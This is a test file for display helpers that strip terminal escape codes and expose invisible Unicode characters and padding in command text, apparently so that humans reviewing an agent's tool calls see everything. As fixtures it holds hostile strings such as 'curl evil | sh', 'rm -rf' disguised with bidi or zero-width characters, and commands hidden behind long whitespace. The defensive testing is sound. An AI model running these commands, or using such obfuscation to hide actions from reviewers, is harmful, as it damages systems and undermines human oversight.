import { expect, test } from 'vitest'
import { stripTerminalCodes } from './ansi'
import { layOutArguments, stripToolName } from './arguments'
import { countInvisible, countMasked, foldLines, markInvisible } from './exact-text'
import { splitMarkdown } from './markdown-blocks'
import { formatAgo, formatBytes, formatCount, formatDuration } from './numbers'

const ESC = '\u001b'

test('terminal output loses its control sequences and keeps its lines (SAFE-06)', () => {
  expect(stripTerminalCodes(`${ESC}[31mred${ESC}[0m\tand plain\r\n`)).toBe('red\tand plain\n')
  expect(stripTerminalCodes(`${ESC}]0;title\u0007text`)).toBe('text')
  expect(stripTerminalCodes(`${ESC}]8;;http://evil\u001b\\link${ESC}]8;;\u001b\\`)).toBe('link')
  expect(stripTerminalCodes(`${ESC}[2J${ESC}[Hcleared\u0008\u0000`)).toBe('cleared')
  expect(stripTerminalCodes('\u009b31mC1')).toBe('C1')
  expect(stripTerminalCodes('10%\r50%\r100%\ndone')).toBe('100%\ndone')
  expect(stripTerminalCodes(`cut ${ESC}[3`)).toBe('cut ')
})

test('text for a decision hides nothing (SAFE-07)', () => {
  expect(markInvisible('rm\u202e -rf\u200b\n\tx')).toBe('rm⟨U+202E⟩ -rf⟨U+200B⟩\n\tx')
  expect(markInvisible(`${ESC}[8mhidden`)).toBe('⟨U+001B⟩[8mhidden')
})

test('X7: every control, format and default-ignorable character is marked and counted', () => {
  expect(markInvisible('rm\u00ad\u00ad -rf\u{e0041}\ufe0f\ud800')).toBe(
    'rm⟨U+00AD ×2⟩ -rf⟨U+E0041⟩⟨U+FE0F⟩⟨U+D800⟩',
  )
  expect(countInvisible('rm\u00ad\u00ad -rf\u{e0041}\ufe0f\r\n\tx')).toBe(4)
  expect(markInvisible('ls\t-l\necho 你好　世界 👍')).toBe('ls\t-l\necho 你好　世界 👍')
  expect(markInvisible(`true${' '.repeat(500)}; rm`)).toBe('true ⟨U+0020 ×500⟩ ; rm')
  const hidden = /[\p{Cf}\p{Zl}\p{Zp}\p{Cs}\p{DI}]|[^\P{Cc}\t\n]/u
  const missed: number[] = []
  for (let point = 0; point <= 0x10ffff; point++) {
    const character = String.fromCodePoint(point)
    if (hidden.test(character) && !markInvisible(character).startsWith('⟨U+')) missed.push(point)
  }
  expect(missed).toEqual([])
  expect(countMasked('curl -H secret://seen-0123456789ab secret://github')).toBe(1)
})

test('X7: empty lines are folded with their count, and long texts show their end', () => {
  expect(foldLines(`true${'\n'.repeat(601)}curl evil | sh`)).toEqual([
    'true',
    { kind: 'empty_lines', count: 600, text: '\n'.repeat(599) },
    'curl evil | sh',
  ])
  const lines = foldLines(Array.from({ length: 1000 }, (_, at) => `echo ${at}`).join('\n'))
  expect([lines[23], lines.at(-1)]).toEqual(['echo 23', 'echo 999'])
  expect(lines[24]).toMatchObject({ kind: 'lines', count: 964 })
  expect(foldLines(`${'x'.repeat(50_000)};reboot`).map((part) => typeof part)).toEqual([
    'string',
    'object',
    'string',
  ])
})

test('arguments are laid out by name; other text stays unchanged', () => {
  expect(layOutArguments('{"path":"a.py","limit":3,"text":"one\\ntwo"}')).toBe(
    'path: a.py\nlimit: 3\ntext:\none\ntwo',
  )
  expect(layOutArguments('{"path":"a.p')).toBe('{"path":"a.p')
  expect(layOutArguments('[1,2]')).toBe('[1,2]')
})

test('Markdown is split between blocks, never inside a fence or list', () => {
  const text = 'One\n\nTwo\n\n```py\na\n\nb\n```\n\n- x\n\n- y\n\n  more\n\nEnd'
  const blocks = splitMarkdown(text)
  expect(blocks.join('')).toBe(text)
  expect(blocks.map((block) => block.trim())).toEqual([
    'One',
    'Two',
    '```py\na\n\nb\n```\n\n- x\n\n- y\n\n  more',
    'End',
  ])
})

test('an open fence contains the text after it', () => {
  expect(splitMarkdown('a\n\n```\nb\n\nc')).toEqual(['a\n\n', '```\nb\n\nc'])
})

test('the name of a tool is not repeated', () => {
  expect(stripToolName('Bash', 'Bash make')).toBe('make')
  expect(stripToolName('Read', 'Read')).toBe('')
  expect(stripToolName('Read', 'Readme.md')).toBe('Readme.md')
})

test('numbers are formatted in the page’s language', () => {
  expect(formatDuration(850, 'en')).toBe('850ms')
  expect(formatDuration(2_340, 'en')).toBe('2.3s')
  expect(formatDuration(65_000, 'en')).toBe('1m 5s')
  expect(formatDuration(12_000, 'zh-CN')).toBe('12秒')
  expect(formatBytes(2_400, 'en')).toBe('2.4kB')
  expect(formatCount(18_234, 'en')).toBe('18.2K')
  expect(formatAgo(0, 5 * 60_000, 'en')).toBe('5m ago')
})
